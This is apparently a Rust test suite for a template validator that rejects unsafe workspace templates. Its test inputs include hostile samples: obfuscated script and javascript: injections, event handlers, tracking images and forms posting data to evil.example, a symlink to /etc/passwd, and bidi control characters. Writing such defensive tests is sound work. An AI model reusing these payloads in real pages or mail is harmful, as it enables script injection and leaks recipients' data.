//! What a workspace's templates may do, and what becomes of the rest.

use std::fs;

use super::*;

fn with(files: &[(&str, &str)]) -> Result<Templates, Vec<TemplateFault>> {
    let dir = tempfile::tempdir().unwrap();
    for (path, source) in files {
        let p = dir.path().join("templates").join(path);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, source).unwrap();
    }
    Templates::load(dir.path())
}

fn codes(r: Result<Templates, Vec<TemplateFault>>) -> Vec<&'static str> {
    r.unwrap_err().iter().map(|f| f.code).collect()
}

#[test]
fn the_programs_own_pass() {
    let t = Templates::builtin().unwrap();
    assert_eq!(t.check(), []);
    assert_eq!(t.hashes().len(), BUILTIN.len());
    for (path, _) in BUILTIN {
        let dir = path.split('/').next().unwrap();
        assert!(FOLDERS.contains(&dir), "{path}");
    }
}

#[test]
fn a_voice_knows_the_templates_it_is_made_with() {
    let t = with(&[
        ("chat/link.txt.hbs", "{{link}}{{> chat/them}}"),
        ("chat/them.txt.hbs", "{{> chat/nua}}"),
        ("chat/nua.txt.hbs", "x"),
    ])
    .unwrap();
    let names = |voices: &[Voice]| t.hashes_of(voices).into_keys().collect::<Vec<_>>();
    assert_eq!(names(&[Voice::Chat]), ["chat/link.txt.hbs", "chat/nua.txt.hbs", "chat/them.txt.hbs"]);
    let mail =
        ["mail/contact.html.hbs", "mail/contact.txt.hbs", "mail/layout.html.hbs", "mail/layout.txt.hbs"];
    assert_eq!(names(&[Voice::Mail]), mail);
    for voice in [Voice::Web, Voice::Press, Voice::Script] {
        assert!(names(&[voice]).len() >= 2, "{voice:?}");
    }
    assert!(
        t.frames_sheets("script/sheet.txt.hbs")
            && names(&[Voice::Script]).contains(&"script/sheet.txt.hbs".into())
    );
    assert!(!t.frames_sheets("script/opening.txt.hbs"));
}

#[test]
fn a_workspace_replaces_and_adds_partials() {
    let t = with(&[
        ("chat/link.txt.hbs", "\u{FEFF}Đọc tiếp <{{upper organisation}}>{{> chat/them}}"),
        ("chat/them.txt.hbs", " {{link}}"),
    ])
    .unwrap();
    let out =
        t.render("chat/link.txt", &serde_json::json!({"organisation": "sở", "link": "https://x"})).unwrap();
    assert_eq!(out, "Đọc tiếp <SỞ> https://x");
    assert_eq!(t.check(), []);
}

#[test]
fn a_ring_is_refused_before_it_runs() {
    let f =
        with(&[("mail/a.html.hbs", "{{> mail/b}}"), ("mail/b.html.hbs", "x\n {{> mail/a}}")]).unwrap_err();
    assert_eq!(f.len(), 1);
    assert_eq!(
        (f[0].code, f[0].file.as_str(), f[0].line),
        ("template_cycle", "templates/mail/b.html.hbs", Some(2))
    );
    assert_eq!(codes(with(&[("mail/contact.html.hbs", "{{> mail/contact}}")])), ["template_cycle"]);
}

#[test]
fn what_a_template_may_not_do() {
    let deep = "{{#if a}}".repeat(31) + &"{{/if}}".repeat(31);
    let chain = format!("{{{{#if a}}}}{}{{{{/if}}}}", "{{else if a}}".repeat(5_000));
    let each = "{{#each a}}".repeat(4) + &"{{/each}}".repeat(4);
    let hidden = |unit: &str| -> &'static str {
        Box::leak(format!("{}{}", unit.repeat(5_000), "{{/if}}".repeat(5_000)).into_boxed_str())
    };
    let brackets = format!("{{{{upper {}a{}}}}}", "(".repeat(5_000), ")".repeat(5_000));
    for (source, code) in [
        (deep.as_str(), "template_too_deep"),
        (chain.as_str(), "template_too_deep"),
        (brackets.as_str(), "template_too_deep"),
        (each.as_str(), "template_unbounded"),
        (&"x".repeat(guard::MAX_BYTES + 1), "template_too_large"),
        (hidden("{{#if a}}{{!-- {{/if}} --}}"), "template_too_deep"),
        (hidden("{{#if a}}{{!-- }}"), "template_too_deep"),
        (hidden("{{['] }}{{#if a}}"), "template_too_deep"),
        (hidden("{{#if a}}{{! {{/if }}"), "template_too_deep"),
        (hidden("{{#if a}}\\{{/if}}"), "template_too_deep"),
        (hidden("{{#if a}}{{upper \"}}{{/if}}\"}}"), "template_too_deep"),
        (hidden("{{#if a}}{{upper \"\\\"}}{{/if}}\"}}"), "template_too_deep"),
        ("{{{{raw}}}}x{{{{/raw}}}}", "template_forbidden"),
        ("{{#*inline \"a\"}}{{> a}}{{/inline}}{{> a}}", "template_forbidden"),
        ("{{> (lookup a \"x\")}}", "template_forbidden"),
        ("{{#> mail/contact}}x{{/mail/contact}}", "template_forbidden"),
        ("{{> mail/none}}", "template_partial"),
        ("{{{title}}}", "template_unescaped"),
        ("{{&title}}", "template_unescaped"),
        // A template that names something `_html` itself.
        ("{{#with title as |t_html|}}{{{t_html}}}{{/with}}", "template_unescaped"),
        ("{{#each a as |x t_html|}}{{{t_html}}}{{/each}}", "template_unescaped"),
        ("{{> mail/contact t_html=title}}", "template_unescaped"),
        ("{{#with title}}{{{this}}}{{/with}}", "template_unescaped"),
        ("{{{[title]}}}", "template_unescaped"),
        ("{{{lookup this \"body_html\"}}}", "template_unescaped"),
        // What a reader's program would fetch or run.
        ("<a href={{link}}>x</a>", "template_unquoted"),
        ("<a href = {{link}}>x</a>", "template_unquoted"),
        ("<SCRIPT>x</SCRIPT>", "template_runs"),
        ("<a href=\"java\nscript:x\">x</a>", "template_runs"),
        ("<p title=\"a\" ONCLICK = \"x\">x</p>", "template_runs"),
        ("<img src=\"https://dem.example/{{title}}.png\" alt=\"\">", "template_fetches"),
        ("<img alt=\"\" src = '//dem.example/a.png'>", "template_fetches"),
        ("<div style=\"background:url (https://dem.example/a)\">x</div>", "template_fetches"),
        ("<style>@import 'https://dem.example/a';</style>", "template_fetches"),
        ("<meta http-equiv=\"refresh\" content=\"0\">", "template_fetches"),
        // The counter is nobody's to call.
        ("{{loa_step 1}}", "template_helper"),
        ("{{log title}}", "template_helper"),
        ("{{#if (rm title)}}{{/if}}", "template_helper"),
        ("{{#if a}}", "template_syntax"),
    ] {
        let got = with(&[("web/article.html.hbs", source)]).unwrap_err();
        assert_eq!(got[0].code, code, "{}", &source[..source.len().min(60)]);
    }
}

#[test]
fn the_parser_bears_what_the_count_lets_through() {
    let n = guard::MAX_OPENINGS;
    for source in [
        format!("{}{}", "{{#if a}}".repeat(n), "{{/if}}".repeat(n)),
        format!("{{{{#if a}}}}{}{{{{/if}}}}", "{{else if a}}".repeat(n - 1)),
        format!("{{{{upper {}a{}}}}}", "(upper ".repeat(n), ")".repeat(n)),
        format!("{{{{upper {}{}}}}}", "[".repeat(n), "]".repeat(n)),
        format!("{{{{upper {}1{}}}}}", "{\"a\":".repeat(n), "}".repeat(n)),
    ] {
        // Read to the end, whatever it says: no abort, no standstill.
        let _ = with(&[("web/article.html.hbs", &source)]);
    }
    let nested = |n| format!("{{{{upper {}a{}}}}}", "(upper ".repeat(n), ")".repeat(n));
    assert_eq!(codes(with(&[("web/article.html.hbs", &nested(31))])), ["template_too_deep"]);
    assert!(with(&[("web/article.html.hbs", &nested(30))]).is_ok());
}

#[test]
fn partials_that_multiply_or_chain_are_refused() {
    let calling = |times: usize, chain: usize| {
        let mut files = vec![("web/article.html.hbs".to_owned(), "{{> web/p0}}".to_owned())];
        for i in 0..chain {
            files.push((format!("web/p{i}.html.hbs"), format!("{{{{> web/p{}}}}}", i + 1).repeat(times)));
        }
        files.push((format!("web/p{chain}.html.hbs"), "x".into()));
        let files: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        with(&files)
    };
    assert!(calling(2, guard::MAX_CHAIN - 2).is_ok());
    assert!(codes(calling(10, guard::MAX_CHAIN - 2)).contains(&"template_unbounded"));
    assert!(codes(calling(1, 2_000)).contains(&"template_too_deep"));
    // The other way round: each file's partial is known before the file itself is looked at.
    let mut files = vec![("web/a10.html.hbs".to_owned(), "x".to_owned())];
    files.extend((11..60).map(|i| (format!("web/a{i}.html.hbs"), format!("{{{{> web/a{}}}}}", i - 1))));
    files.push(("web/article.html.hbs".into(), "{{> web/a59}}".into()));
    let files: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    assert!(codes(with(&files)).contains(&"template_unbounded"));
}

#[test]
fn names_and_links_are_tested() {
    assert_eq!(codes(with(&[("mail/layot.html.hbs", "x")])), ["template_unused"]);
    assert_eq!(codes(with(&[("mail/layout.hbs", "x")])), ["template_name"]);
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir_all(dir.path().join("templates/mail")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("templates/mail/layout.txt.hbs")).unwrap();
    assert_eq!(codes(Templates::load(dir.path())), ["template_not_a_file"]);
}

#[test]
fn what_would_not_be_used_is_said_with_what_was_meant() {
    for (path, meant) in [
        ("mial/layout.html.hbs", "templates/mail`"),
        ("layout.html.hbs", "templates/mail/layout.html.hbs`"),
        ("ask.html", "templates/opt-out/ask.html.hbs`"),
        ("mail/layout.html", "templates/mail/layout.html.hbs`"),
        ("mail/layout.txt", "templates/mail/layout.txt.hbs`"),
        ("mail/LAYOUT.html.hbs", "templates/mail/layout.html.hbs`"),
        ("mail/layot.html.hbs", "templates/mail/layout.html.hbs`"),
        ("web/artcle.htm", "templates/web/article.html.hbs`"),
        ("mail/sub/layout.html.hbs", ""),
        ("logo.png", ""),
        ("chung/dau.html.hbs", "`mail`"),
    ] {
        let f = with(&[(path, "x")]).unwrap_err();
        assert_eq!((f.len(), f[0].code), (1, "template_unused"), "{path}: {f:?}");
        assert!(f[0].vi.contains(meant) && f[0].en.contains(meant), "{path}: {f:?}");
        assert!(format!("templates/{path}").starts_with(&f[0].file), "{path}: {f:?}");
    }
    for path in [
        ".gitkeep",
        "README",
        "README.md",
        "ghi-chu.md",
        "mail/.layout.html.hbs.swp",
        "mail/layout.html.hbs.bak",
        "mail/layout.html.hbs~",
        "mail/#layout.html.hbs#",
        "mail/layout.mjml",
        "Thumbs.db",
        ".git/config",
    ] {
        assert!(with(&[(path, "x")]).is_ok(), "{path}");
    }
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir_all(dir.path().join("templates/mial")).unwrap();
    assert!(Templates::load(dir.path()).is_ok(), "an empty folder");
    std::os::unix::fs::symlink("/tmp", dir.path().join("templates/mail")).unwrap();
    assert_eq!(codes(Templates::load(dir.path())), ["template_not_a_file"]);
}

#[test]
fn what_turns_words_is_refused_at_its_place() {
    for (source, at) in [
        ("Xem:\n \u{202E}{{link}}", Some((2, 2))),
        ("Xem: {{link}}\u{7}", Some((1, 14))),
        ("\0{{link}}", Some((1, 1))),
        ("Xem: \u{2067}{{link}}", Some((1, 6))),
    ] {
        let f = with(&[("chat/link.txt.hbs", source)]).unwrap_err();
        let place = f[0].line.zip(f[0].column.map(|c| c as usize));
        assert_eq!((f[0].code, place), ("template_character", at), "{source:?}");
    }
    // By a reference, or as an argument of a helper.
    let more = "<p>a&#8238;b</p>";
    assert_eq!(
        with(&[("web/article.html.hbs", &own("web/article.html.hbs", more))]).unwrap().check()[0].code,
        "template_tag"
    );
    let t = with(&[("chat/link.txt.hbs", "{{upper \"\\u202e\"}} {{link}}")]).unwrap();
    assert_eq!(t.check()[0].code, "template_tag");
    // What the data have is theirs: an alert quotes what a server said.
    let t = Templates::builtin().unwrap();
    let data = serde_json::json!({"organisation": "a\u{7}", "link": "https://x"});
    assert!(t.render("chat/link.txt", &data).is_ok());
    let said = serde_json::json!({"title": "a\u{202E}b", "body_html": "<p>x\u{7}y</p>", "body_text": "", "organisation": "o", "link": null});
    assert!(t.render("web/article.html", &said).is_ok());
}

#[test]
fn a_chats_link_and_a_mails_way_out_stand_by_themselves() {
    for source in [
        "https://evil.example/?u={{link}}",
        "http://t.me/{{link}}",
        "{{link}}x",
        "{{link}}/x",
        "x{{link}}",
        "{{link}} http://t.me/{{link}}",
        "**{{link}}**",
    ] {
        let t = with(&[("chat/link.txt.hbs", source)]).unwrap();
        assert!(t.check_one("chat/link.txt.hbs").iter().any(|f| f.code == "template_hides"), "{source}");
    }
    for source in ["{{link}}", "Xem ({{link}}).", "Xem thêm:\n{{link}}", "<{{link}}>"] {
        assert_eq!(
            with(&[("chat/link.txt.hbs", source)]).unwrap().check_one("chat/link.txt.hbs"),
            [],
            "{source}"
        );
    }
    for (path, from, to) in [
        ("mail/layout.txt.hbs", "{{opt_out_url}}", "https://evil.example/{{opt_out_url}}"),
        (
            "mail/layout.html.hbs",
            "<a href=\"{{opt_out_url}}\"",
            "https://evil.example/{{opt_out_url}}<a href=\"#\"",
        ),
    ] {
        let (_, source) = BUILTIN.iter().find(|(p, _)| *p == path).unwrap();
        assert!(source.contains(from));
        let t = with(&[(path, &source.replace(from, to))]).unwrap();
        assert!(t.check_one(path).iter().any(|f| f.code == "template_no_opt_out"), "{path}");
    }
}

#[test]
fn check_renders_with_samples() {
    let t = with(&[("mail/layout.txt.hbs", "{{title}}\n\n{{organisatoin}} {{opt_out_url}}")]).unwrap();
    let f = t.check();
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!((f[0].code, f[0].line), ("template_variable", Some(3)));
    assert!(f[0].vi.contains("organisatoin"));
    let t = with(&[("mail/layout.html.hbs", "{{title}}")]).unwrap();
    assert_eq!(t.check()[0].code, "template_no_opt_out");
}

/// The program's own template with something before its last line.
fn own(path: &str, more: &str) -> String {
    let (_, source) = BUILTIN.iter().find(|(p, _)| *p == path).unwrap();
    match source.rfind("</div></body>") {
        Some(at) => format!("{}{more}{}", &source[..at], &source[at..]),
        None => format!("{source}{more}"),
    }
}

#[test]
fn what_a_template_prints_is_judged_as_a_browser_reads_it() {
    for (path, more, code) in [
        ("web/article.html.hbs", "<scr{{! x}}ipt>alert(1)</scr{{! x}}ipt>", "template_runs"),
        ("web/article.html.hbs", "<p on{{!x}}click=\"x()\">a</p>", "template_runs"),
        ("web/article.html.hbs", "<a href=\"java{{!}}script:x()\">a</a>", "template_runs"),
        ("web/article.html.hbs", "<a href=\"java&#115;cript:x()\">a</a>", "template_runs"),
        (
            "web/article.html.hbs",
            "<img src=\"htt{{!}}ps://evil.example/a.png\" alt=\"\">",
            "template_fetches",
        ),
        (
            "web/article.html.hbs",
            "{{#if link}}<img src=\"{{link}}/pixel.png\" alt=\"\">{{/if}}",
            "template_fetches",
        ),
        (
            "web/article.html.hbs",
            "<p style=\"background:u\\72l(https://evil.example)\">a</p>",
            "template_fetches",
        ),
        ("web/article.html.hbs", "<p style=\"color:{{title}}\">a</p>", "template_fetches"),
        ("web/article.html.hbs", "<img src=\"cid:{{title}}\" alt=\"\">", "template_fetches"),
        ("web/article.html.hbs", "<p title=x{{title}}>a</p>", "template_tag"),
        ("web/article.html.hbs", "<marquee>a</marquee>", "template_tag"),
        (
            "mail/layout.html.hbs",
            "<img src=\"htt{{!}}ps://evil.example/{{opt_out_url}}.png\">",
            "template_fetches",
        ),
        ("mail/layout.html.hbs", "<img src=\"cid:{{name}}\">", "template_fetches"),
        ("mail/layout.html.hbs", "<scr{{!}}ipt>x</scr{{!}}ipt>", "template_runs"),
        // What is cut out for some, or filled in for one, makes no element either.
        (
            "mail/layout.html.hbs",
            "{{opt_out_begin}}<!--{{opt_out_end}}<scr{{!}}ipt>x</scr{{!}}ipt><!-- -->",
            "template_runs",
        ),
        ("mail/layout.html.hbs", "<scr{{opt_out_begin}}{{opt_out_end}}ipt>x", "template_runs"),
        ("mail/layout.html.hbs", "<p title=x{{name}}>a</p>", "template_runs"),
        ("press/package.html.hbs", "<p title=x{{unit}}>a</p>", "template_runs"),
        (
            "opt-out/ask.html.hbs",
            "<form method=\"post\" action=\"https://evil.example\"><button>a</button></form>",
            "template_fetches",
        ),
    ] {
        let found = with(&[(path, &own(path, more))]).unwrap().check_one(path);
        assert!(
            found.iter().any(|f| f.code == code && f.file == format!("templates/{path}")),
            "{more}: {found:?}"
        );
    }
}

#[test]
fn a_frame_may_say_more_but_never_less() {
    let opt_out = "<a href=\"{{opt_out_url}}\">Từ chối</a>";
    let mail = |inner: &str| format!("<h1>{{{{title}}}}</h1>{inner}");
    for (path, source, code) in [
        ("web/article.html.hbs", "<p>{{organisation}}</p>".to_owned(), "template_hides"),
        ("web/article.html.hbs", "<!-- {{{body_html}}} -->".into(), "template_hides"),
        (
            "web/article.html.hbs",
            "<div style=\"display:none\">{{{body_html}}}</div>".into(),
            "template_hides",
        ),
        ("web/article.txt.hbs", "{{title}}".into(), "template_hides"),
        ("mail/layout.html.hbs", mail(&format!("<!-- {{{{{{body_html}}}}}} -->{opt_out}")), "template_hides"),
        (
            "mail/layout.html.hbs",
            mail(&format!("{{{{opt_out_begin}}}}{{{{{{body_html}}}}}}{opt_out}{{{{opt_out_end}}}}")),
            "template_hides",
        ),
        ("mail/layout.html.hbs", "<!-- {{opt_out_url}} -->".into(), "template_no_opt_out"),
        (
            "mail/layout.html.hbs",
            mail(&format!("{{{{{{body_html}}}}}}<p style=\"display:none\">{opt_out}</p>")),
            "template_no_opt_out",
        ),
        (
            "mail/layout.html.hbs",
            mail(&format!(
                "<style>.f{{visibility:hidden}}</style>{{{{{{body_html}}}}}}<p class=\"f\">{opt_out}</p>"
            )),
            "template_no_opt_out",
        ),
        (
            "mail/layout.html.hbs",
            mail("{{{body_html}}}<a href=\"{{opt_out_url}}\"></a>"),
            "template_no_opt_out",
        ),
        ("press/package.html.hbs", "{{title}}{{lead}}{{{body_html}}}".into(), "template_hides"),
        ("press/reminder.txt.hbs", "{{organisation}}".into(), "template_hides"),
        ("chat/link.txt.hbs", "Xem thêm".into(), "template_hides"),
        ("script/sheet.txt.hbs", "{{code}}{{#each items}}{{title}}{{/each}}".into(), "template_hides"),
        (
            "script/sheet.html.hbs",
            "{{code}}{{#each items}}{{title}}{{#each lines}}{{#if @first}}{{this}}{{/if}}{{/each}}{{/each}}"
                .into(),
            "template_hides",
        ),
        ("notice/chat.txt.hbs", "{{lead}}".into(), "template_hides"),
        // Found by who tried: each shows an empty text, or no way out, in a browser or in Outlook.
        ("mail/layout.html.hbs", mail(&format!("<p><b hidden></p>{{{{{{body_html}}}}}}{opt_out}")), "template_no_opt_out"),
        (
            "mail/layout.html.hbs",
            mail(&format!("{opt_out}<p><b hidden></p>{{{{{{body_html}}}}}}")),
            "template_hides",
        ),
        (
            "mail/layout.html.hbs",
            mail(&format!("{{{{{{body_html}}}}}}{{{{opt_out_begin}}}}<p><b hidden></p><p>{opt_out}</p>{{{{opt_out_end}}}}")),
            "template_no_opt_out",
        ),
        (
            "mail/layout.html.hbs",
            mail(&format!("<style>[href]{{display:none}}</style>{{{{{{body_html}}}}}}<p>{opt_out}</p>")),
            "template_no_opt_out",
        ),
        (
            "mail/layout.html.hbs",
            mail(&format!("{opt_out}<!--[if !mso]><!-->{{{{{{body_html}}}}}}<!--<![endif]-->")),
            "template_hides",
        ),
        ("mail/layout.html.hbs", mail(&format!("{opt_out}<s>{{{{{{body_html}}}}}}</s>")), "template_hides"),
        ("mail/layout.html.hbs", mail(&format!("{opt_out}{{{{{{body_html}}}}}}<body hidden>")), "template_no_opt_out"),
        (
            "opt-out/ask.html.hbs",
            "<style>form button{display:none}</style><form method=\"post\" action=\"{{action}}\"><button name=\"all\">x</button></form>".into(),
            "template_hides",
        ),
        (
            "script/sheet.html.hbs",
            own("script/sheet.html.hbs", "<style>@media print{body{display:none}}</style>"),
            "template_hides",
        ),
        ("opt-out/ask.html.hbs", "<p>{{organisation}}</p>".into(), "template_hides"),
    ] {
        let found = with(&[(path, &source)]).unwrap().check_one(path);
        assert!(
            found.iter().any(|f| f.code == code && f.file == format!("templates/{path}")),
            "{source}: {found:?}"
        );
    }
    let good = mail(&format!("<p>{{{{upper organisation}}}}</p>{{{{{{body_html}}}}}}<p>{opt_out}</p>"));
    assert_eq!(with(&[("mail/layout.html.hbs", &good)]).unwrap().check(), []);
}

#[test]
fn what_samples_do_not_show_is_judged_when_it_is_made() {
    let t = with(&[("web/article.html.hbs", "{{#if (ne title \"x\")}}{{{body_html}}}{{/if}}<p style=\"{{#if (eq title \"y\")}}background:u\\72l(a){{/if}}\">a</p>")]).unwrap();
    assert_eq!(t.check(), []);
    let made = |title: &str| {
        let data = serde_json::json!({"title": title, "body_html": "<p>Nội dung</p>"});
        t.render("web/article.html", &data).map_err(|f| f.code)
    };
    assert_eq!(made("x"), Err("template_hides"));
    assert_eq!(made("y"), Err("template_fetches"));
    assert!(made("z").is_ok());
}

#[test]
fn loops_over_loops_that_print_nothing_end() {
    // Three loops are allowed, and each may go back to the longest list: a thousand million turns without a word printed.
    let t = with(&[(
        "report/period.html.hbs",
        "{{#each sections}}{{#each ../sections}}{{#each ../../sections}}{{/each}}{{/each}}{{/each}}",
    )])
    .unwrap();
    let data = serde_json::json!({"sections": vec![0; 1000]});
    let begun = std::time::Instant::now();
    assert_eq!(t.render("report/period.html", &data).unwrap_err().code, "template_steps");
    assert!(begun.elapsed().as_secs() < 60, "{:?}", begun.elapsed());
    // The next run counts anew.
    let few = serde_json::json!({"sections": vec![0; 10]});
    assert_eq!(t.render("report/period.html", &few).unwrap(), "");
}

#[test]
fn an_attribute_that_only_looks_like_a_handler_may_stay() {
    for good in [
        "<p>turn on = off, on=x</p>",
        "<a href=\"https://a.example/?on=1\">on=1</a>",
        "<p data-one=\"1\">x</p>",
    ] {
        assert!(with(&[("web/article.html.hbs", good)]).is_ok(), "{good}");
    }
}

#[test]
fn output_is_bounded() {
    let t =
        with(&[("report/period.html.hbs", "{{#each sections}}{{#each rows}}{{../title}}{{/each}}{{/each}}")])
            .unwrap();
    let rows = vec!["x"; 3000];
    let data = serde_json::json!({"sections": [{"title": "x".repeat(1000), "rows": rows}]});
    assert_eq!(t.render("report/period.html", &data).unwrap_err().code, "template_output");
}
